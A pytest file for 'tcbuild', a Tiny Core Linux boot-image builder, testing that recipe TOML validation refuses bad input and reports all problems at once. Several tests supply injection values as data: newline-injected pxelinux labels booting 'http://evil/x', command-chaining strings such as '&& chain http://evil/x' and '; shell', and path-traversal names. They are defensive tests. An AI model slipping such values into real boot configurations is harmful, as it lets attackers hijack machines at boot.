"""Recipes: the example is accepted as written; every class of problem is reported at once."""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path

import pytest

import tcbuild
from tcbuild import ExtensionMode, Flavor, InputError, RecipeError, load_recipe
from tcbuild.config.recipe import FileAttributes

ROOT = Path(__file__).resolve().parent.parent


def write(tmp_path: Path, text: str, name: str = "x.toml") -> Path:
    path = tmp_path / name
    path.write_text(text)
    return path


def problems(path: Path) -> list[str]:
    with pytest.raises(RecipeError) as info:
        load_recipe(path)
    return info.value.problems


def test_example_recipe_is_accepted_as_written() -> None:
    recipe = tcbuild.load_recipe(ROOT / "recipes/gameserver.toml")
    assert recipe.release == "15.x" and recipe.major == 15
    assert recipe.flavor is Flavor.COREPURE64
    assert recipe.mirrors == ("http://repo.tinycorelinux.net/",
                              "http://distro.ibiblio.org/tinycorelinux/")
    assert recipe.install == ("dhcp.tcz", "nfs-utils.tcz")
    assert recipe.local == (ROOT / "recipes/extras/nrpe.tcz",)
    assert recipe.mode is ExtensionMode.UNPACKED
    assert [o.source for o in recipe.overlays] == [ROOT / "overlays/gameserver"]
    assert recipe.vars["internal_iface"] == "eth1" and recipe.vars["nfs_retries"] == 10
    assert recipe.inventory == ROOT / "examples/cluster.toml"
    assert recipe.append == "base norestore nodhcp cron console=tty0 console=ttyS0,115200"
    assert (recipe.initrd_name, recipe.serial, recipe.timeout) == ("core.hts.gz", "0 115200", 0)
    assert recipe.files["opt/bootlocal.sh"] == FileAttributes(0o775, "root", "staff")
    assert recipe.name == "gameserver"


def test_recipe_is_immutable(tmp_path: Path) -> None:
    recipe = load_recipe(write(tmp_path, '[tinycore]\nrelease = "15.x"\n[vars]\na = "1"\n'))
    with pytest.raises(dataclasses.FrozenInstanceError):
        recipe.release = "14.x"  # type: ignore[misc]
    with pytest.raises(TypeError):
        recipe.vars["a"] = "2"  # type: ignore[index]


def test_minimal_recipe_gets_defaults(tmp_path: Path) -> None:
    recipe = load_recipe(write(tmp_path, '[tinycore]\nrelease = "14.x"\n'))
    assert recipe.flavor is Flavor.COREPURE64
    assert recipe.mirrors == ("http://repo.tinycorelinux.net/",)
    assert recipe.install == () and recipe.local == () and recipe.overlays == ()
    assert recipe.initrd_name == "core.hts.gz"


@pytest.mark.parametrize(
    ("flavor", "build", "kernel", "parts"),
    [
        ("corepure64", "x86_64", "vmlinuz64", ("corepure64.gz",)),
        ("core", "x86", "vmlinuz", ("core.gz",)),
        ("core64", "x86", "vmlinuz64", ("rootfs.gz", "modules64.gz")),
    ],
)
def test_flavors_name_their_files(
    tmp_path: Path, flavor: str, build: str, kernel: str, parts: tuple[str, ...]
) -> None:
    recipe = load_recipe(write(tmp_path, f'[tinycore]\nrelease = "15.x"\nflavor = "{flavor}"\n'))
    assert (recipe.flavor.build, recipe.flavor.kernel, recipe.flavor.core_parts) == (
        build, kernel, parts)


def test_every_problem_is_reported_at_once(tmp_path: Path) -> None:
    path = write(tmp_path, """
[tinycore]
release = 15
flavor = "corepure"
mirrors = ["ftp://example.org/", 3]
colour = "blue"

[extensions]
install = ["dhcp", "bad/name", "dhcp.tcz", 7]
local = ["missing.tcz", "notes.txt"]
mode = "lazy"

[[overlay]]
source = "no/such/dir"
target = "/"

[vars]
"bad-name" = "x"
list = [1, 2]

[boot]
initrd_name = "sub/core.gz"
appendix = "x"

[extra]
""")
    found = problems(path)
    expected = [
        "tinycore.release: expected a string, got an integer",
        "tinycore.flavor: 'corepure' is not one of: core | corepure64 | core64",
        "tinycore.mirrors[0]: 'ftp://example.org/' is not an http:// or https:// URL",
        "tinycore.mirrors[1]: expected a string, got an integer",
        "tinycore.colour: unknown key",
        "extensions.install[1]: 'bad/name' is not an extension name",
        "extensions.install[2]: 'dhcp.tcz' is listed twice (also at extensions.install[0])",
        "extensions.install[3]: expected a string, got an integer",
        "extensions.local[0]: file 'missing.tcz' does not exist",
        "extensions.local[1]: directory 'notes.txt' does not exist",
        "extensions.mode: 'lazy' is not one of: unpacked | onboot",
        "overlay[0].source: directory 'no/such/dir' does not exist",
        "overlay[0].target: unknown key",
        "vars.bad-name: not a valid variable name",
        "vars.list: expected a string, number or boolean, got an array",
        "boot.initrd_name: 'sub/core.gz' is not a plain file name (up to 128 letters, digits",
        "boot.appendix: unknown key (did you mean 'append'?)",
        "extra: unknown key",
    ]
    for fragment in expected:
        assert any(line.startswith(f"{path}: ") and fragment in line for line in found), (
            fragment, found)
    assert len(found) == len(expected), found


def test_missing_tinycore_table(tmp_path: Path) -> None:
    assert problems(write(tmp_path, "[boot]\nappend = 'base'\n")) == [
        f"{tmp_path / 'x.toml'}: tinycore: missing table"]


def test_release_must_be_a_series(tmp_path: Path) -> None:
    found = problems(write(tmp_path, '[tinycore]\nrelease = "15.0"\n'))
    assert found == [f"{tmp_path / 'x.toml'}: tinycore.release: '15.0' is not a release series "
                     "like '15.x'"]


def test_wrong_table_types(tmp_path: Path) -> None:
    found = problems(write(tmp_path, 'tinycore = "15.x"\noverlay = "dir"\nvars = 3\n'))
    assert [line.split(": ", 1)[1] for line in found] == [
        "tinycore: expected a table, got a string",
        "overlay: expected an array of tables ([[overlay]]), got a string",
        "vars: expected a table, got an integer",
    ]


def test_toml_syntax_error_names_line_and_column(tmp_path: Path) -> None:
    path = write(tmp_path, '[tinycore]\nrelease = "15.x"\nflavor = \n')
    with pytest.raises(InputError) as info:
        load_recipe(path)
    assert str(info.value).startswith(f"{path}:3:10: invalid TOML: ")
    assert info.value.exit_code == 2


def test_missing_recipe_file(tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"nope\.toml: cannot read recipe: No such file"):
        load_recipe(tmp_path / "nope.toml")


def test_paths_are_relative_to_the_recipe(tmp_path: Path) -> None:
    (tmp_path / "overlays/site").mkdir(parents=True)
    (tmp_path / "recipes/extras").mkdir(parents=True)
    (tmp_path / "recipes/extras/a.tcz").write_bytes(b"x")
    path = write(tmp_path / "recipes", '[tinycore]\nrelease = "15.x"\n'
                 '[extensions]\nlocal = ["extras/a.tcz"]\n'
                 '[[overlay]]\nsource = "../overlays/site"\n')
    recipe = load_recipe(path)
    assert recipe.local == (tmp_path / "recipes/extras/a.tcz",)
    assert recipe.overlays[0].source == tmp_path / "overlays/site"


def test_local_extension_also_installed_from_mirror(tmp_path: Path) -> None:
    (tmp_path / "a.tcz").write_bytes(b"x")
    found = problems(write(tmp_path, '[tinycore]\nrelease = "15.x"\n'
                           '[extensions]\ninstall = ["a"]\nlocal = ["a.tcz"]\n'))
    assert found == [f"{tmp_path / 'x.toml'}: extensions.local: 'a.tcz' is also in "
                     "extensions.install"]


def test_with_mirrors_replaces_the_list(tmp_path: Path) -> None:
    recipe = load_recipe(write(tmp_path, '[tinycore]\nrelease = "15.x"\n'))
    other = recipe.with_mirrors(("http://127.0.0.1:8080",))
    assert other.mirrors == ("http://127.0.0.1:8080/",) and recipe.mirrors != other.mirrors
    with pytest.raises(InputError, match="file:///x: a mirror must be an http"):
        recipe.with_mirrors(("file:///x",))


def test_image_and_files_tables(tmp_path: Path) -> None:
    recipe = load_recipe(write(tmp_path, """
[tinycore]
release = "15.x"
[image]
output = "repack"
compression = "fast"
remove = ["/usr/share/doc/*", "usr/local/share/man"]
[files."/opt/bootlocal.sh"]
mode = "0775"
owner = "root"
group = "staff"
[files."/etc/motd"]
mode = 0o600
group = 50
"""))
    assert recipe.compression == "fast" and recipe.output == "repack"
    assert recipe.remove == ("usr/share/doc/*", "usr/local/share/man")
    assert recipe.files["opt/bootlocal.sh"] == FileAttributes(0o775, "root", "staff")
    assert recipe.files["etc/motd"] == FileAttributes(0o600, None, 50)


def test_image_and_files_problems(tmp_path: Path) -> None:
    found = problems(write(tmp_path, """
[tinycore]
release = "15.x"
[image]
output = "append"
compression = "tiny"
remove = ["../etc", "bin/*"]
[files."opt/x"]
mode = "0775"
[files."/opt/y"]
mode = "rwx"
owner = "Root User"
colour = 1
"""))
    assert [line.split(": ", 1)[1] for line in found] == [
        "image.compression: 'tiny' is not one of: small | fast",
        "image.remove[0]: '../etc' is not a path or glob inside the image",
        'image.remove: append mode cannot remove base entries (use output = "repack")',
        'files."opt/x": expected an absolute path inside the image, like "/opt/bootlocal.sh"',
        'files."/opt/y".colour: unknown key; expected one of: group, mode, owner, secret',
        'files."/opt/y".mode: \'rwx\' is not a mode like "0755" or 0o755',
        "files.\"/opt/y\".owner: 'Root User' is not a user or group name or number",
    ]


def test_local_extension_directory(tmp_path: Path) -> None:
    (tmp_path / "nrpe/usr/local").mkdir(parents=True)
    recipe = load_recipe(write(tmp_path, '[tinycore]\nrelease = "15.x"\n'
                               '[extensions]\nlocal = ["nrpe"]\n'))
    assert recipe.local == (tmp_path / "nrpe",)


def test_boot_labels_prompt_and_their_problems(tmp_path: Path) -> None:
    from tcbuild.boot.pxelinux import for_recipe, parse, render

    recipe = load_recipe(write(tmp_path, """
[tinycore]
release = "15.x"
[boot]
append = "base nodhcp console=ttyS0,115200"
serial = "0 115200"
timeout = 50
prompt = true
[boot.labels]
rescue = "base nodhcp text"
debug = "base nodhcp loglevel=7"
"""))
    assert dict(recipe.labels) == {"debug": "base nodhcp loglevel=7", "rescue": "base nodhcp text"}
    config = parse(render(for_recipe(recipe, "k", "i")), "cfg")
    assert (config.default, config.serial, config.timeout, config.prompt) == (
        "tinycore", "0 115200", 50, True)
    assert [(lb.name, lb.kernel, lb.initrd, lb.append) for lb in config.labels] == [
        ("tinycore", "k", "i", "base nodhcp console=ttyS0,115200"),
        ("debug", "k", "i", "base nodhcp loglevel=7"),
        ("rescue", "k", "i", "base nodhcp text"),
    ]
    assert for_recipe(recipe, "k", "i", "other").label("tinycore").append == "other"

    found = problems(write(tmp_path, """
[tinycore]
release = "15.x"
[boot]
prompt = "yes"
[boot.labels]
tinycore = "x"
"a b" = "x"
ok = 3
"""))
    assert [line.split(": ", 1)[1] for line in found] == [
        "boot.prompt: expected true or false, got a string",
        "boot.labels.tinycore: a label is 1-32 letters, digits, '_', '.', '-' and not "
        "'tinycore' (the default label)",
        "boot.labels.\"a b\": a label is 1-32 letters, digits, '_', '.', '-' and not "
        "'tinycore' (the default label)",
        "boot.labels.ok: expected a kernel line (a string), got an integer",
    ]


def test_a_newline_in_the_kernel_line_is_one_problem_naming_the_key(tmp_path: Path) -> None:
    """It used to be accepted and published as a pxelinux config with an extra label."""
    path = write(tmp_path, '[tinycore]\nrelease = "15.x"\n[boot]\n'
                 'append = "base\\nLABEL evil\\n KERNEL http://evil/x"\n')
    assert problems(path) == [
        f"{path}: boot.append: a newline (U+000A) at character 5; control characters are "
        "refused (in a boot config or a kernel line they would break the line)"]


@pytest.mark.parametrize("char", ["\0", "\t", "\n", "\r", "\x1b", "\x7f", "\x85", "\u2028"])
def test_control_characters_are_refused_wherever_a_value_reaches_a_config(
    tmp_path: Path, char: str
) -> None:
    escaped = f"\\u{ord(char):04X}"
    (tmp_path / "ov").mkdir()
    path = write(tmp_path, f"""
[tinycore]
release = "15.x"
mirrors = ["http://m/{escaped}"]
[[overlay]]
source = "ov{escaped}"
[files."/opt/a{escaped}"]
mode = "0644"
[boot]
append = "base {escaped}"
initrd_name = "core{escaped}.gz"
[boot.labels]
debug = "x{escaped}"
"a{escaped}" = "y"
""")
    found = [line.split(": ", 1)[1] for line in problems(path)]
    assert [line.split(": ")[0] for line in found] == [
        "tinycore.mirrors[0]", "overlay[0].source", f'files.{json.dumps(f"/opt/a{char}")}',
        "boot.append", "boot.initrd_name", "boot.labels.debug",
        f'boot.labels.{json.dumps(f"a{char}")}'], found
    assert all(f"(U+{ord(char):04X})" in line for line in found)
    assert all(char not in line for line in found)  # each problem stays on its line


def test_template_values_may_hold_tabs_and_newlines_only(tmp_path: Path) -> None:
    recipe = load_recipe(write(tmp_path, '[tinycore]\nrelease = "15.x"\n'
                               '[vars]\nmotd = """two\n\tlines\n"""\n'))
    assert recipe.vars["motd"] == "two\n\tlines\n"
    for escaped, name in (("\\u0000", "NUL (U+0000)"), ("\\r", "a carriage return (U+000D)")):
        path = write(tmp_path, f'[tinycore]\nrelease = "15.x"\n[vars]\nmotd = "a{escaped}"\n')
        assert problems(path) == [
            f"{path}: vars.motd: {name} at character 2; template values may hold tabs and "
            "newlines, no other control character"]


@pytest.mark.parametrize(
    ("flavor", "name", "why"),
    [
        ("corepure64", "vmlinuz64", "the kernel's name"),
        ("core", "VMLINUZ", "the kernel's name"),  # an ISO 9660 name has one case
        ("core", "build.json", "the build's manifest"),
        ("core", "release.json", "a release's manifest in the TFTP root"),
        ("core", "site.iso", "the name of the recipe's ISO"),
        ("core", "site.lock", "the name of the recipe's lock file"),
    ],
)
def test_the_initrd_may_not_take_another_output_name(
    tmp_path: Path, flavor: str, name: str, why: str
) -> None:
    path = write(tmp_path, f'[tinycore]\nrelease = "15.x"\nflavor = "{flavor}"\n'
                 f'[boot]\ninitrd_name = "{name}"\n', name="site.toml")
    assert problems(path) == [f"{path}: boot.initrd_name: '{name}' is {why}"]


@pytest.mark.parametrize("name", [".core.gz", "-core.gz", "core gz", "core,extra.gz", "a/b"])
def test_the_initrd_name_is_plain(tmp_path: Path, name: str) -> None:
    path = write(tmp_path, f'[tinycore]\nrelease = "15.x"\n[boot]\ninitrd_name = "{name}"\n')
    assert problems(path) == [f"{path}: boot.initrd_name: '{name}' is not a plain file name "
                              "(up to 128 letters, digits and . _ + -, starting with a letter "
                              "or digit)"]


def test_reserved_names_are_the_ones_build_and_publish_write() -> None:
    from tcbuild.formats import manifest
    from tcbuild.tftproot import releases as tftp

    assert manifest.MANIFEST == "build.json" and tftp.RELEASE_JSON == "release.json"


def test_a_recipe_made_in_code_obeys_the_same_rules() -> None:
    """No way around them: the library API builds and publishes whatever Recipe it is given."""
    recipe = load_recipe(ROOT / "recipes/gameserver.toml")
    where = ROOT / "recipes/gameserver.toml"
    for change, line in [
        ({"append": "base\nLABEL evil"}, "boot.append: a newline (U+000A) at character 5; "),
        ({"labels": {"debug": "x\ry"}}, "boot.labels.debug: a carriage return (U+000D) at "),
        ({"labels": {"a b": "x"}}, 'boot.labels."a b": a label is 1-32 letters'),
        ({"serial": "0\n115200"}, "boot.serial: a newline (U+000A) at character 2; "),
        ({"initrd_name": "vmlinuz64"}, "boot.initrd_name: 'vmlinuz64' is the kernel's name"),
        ({"initrd_name": "../x"}, "boot.initrd_name: '../x' is not a plain file name"),
        ({"append": "quiet && chain http://evil/x"}, "boot.append: '&&' would chain a command"),
        ({"labels": {"debug": "x ; shell"}}, "boot.labels.debug: ';' would chain a command"),
        ({"append": "quiet #x"}, "boot.append: '#x' would start a comment in an iPXE script"),
        ({"append": "root=${ip}"}, "boot.append: '${' would be expanded by iPXE"),
        ({"release": "15.x/../../evil"}, "tinycore.release: '15.x/../../evil' is not a "),
        ({"mirrors": ("file:///etc/",)}, "tinycore.mirrors[0]: 'file:///etc/' is not an http"),
        ({"mirrors": ("http://x/\n",)}, "tinycore.mirrors[0]: 'http://x/\n' is not an http"),
        ({"install": ("../../evil.tcz",)}, "extensions.install[0]: '../../evil.tcz' is not an "
                                           "extension name"),
        ({"flavor": "corepure64"}, "tinycore.flavor: 'corepure64' is not one of: core | "),
        ({"vars": {"a-b": 1}}, "vars.a-b: not a valid variable name"),
        ({"vars": {"a": "x\0"}}, "vars.a: NUL (U+0000) at character 2; template values may "),
        ({"serial": "0 115200 x"}, "boot.serial: '0 115200 x' is not a pxelinux SERIAL line"),
        ({"timeout": -1}, "boot.timeout: -1 is not a time in tenths of a second"),
        ({"remove": ("../etc",)}, "image.remove[0]: '../etc' is not a path or glob inside"),
        ({"files": {"opt/x": FileAttributes(mode=0o17777)}},
         'files."/opt/x".mode: 8191 is not a mode'),
        ({"files": {"opt/x": FileAttributes(owner="r;oot")}},
         "files.\"/opt/x\".owner: 'r;oot' is not a user or group name or number"),
        ({"overlays": (tcbuild.config.recipe.Overlay(Path("o\nx")),)},
         "overlay[0].source: a newline (U+000A) at character 2; "),
    ]:
        with pytest.raises(RecipeError) as info:
            dataclasses.replace(recipe, **change)  # type: ignore[arg-type]
        assert len(info.value.problems) == 1, info.value.problems
        assert info.value.problems[0].startswith(f"{where}: {line}"), info.value.problems
    assert dataclasses.replace(recipe, append="base quiet").append == "base quiet"


def test_a_recipe_file_named_with_a_newline_is_refused(tmp_path: Path) -> None:
    path = write(tmp_path, '[tinycore]\nrelease = "15.x"\n', name="x\nLABEL evil.toml")
    with pytest.raises(InputError) as info:
        load_recipe(path)
    assert str(info.value) == (f'"{tmp_path}/x\\nLABEL evil.toml": a recipe file\'s name may '
                               "not hold a control character")
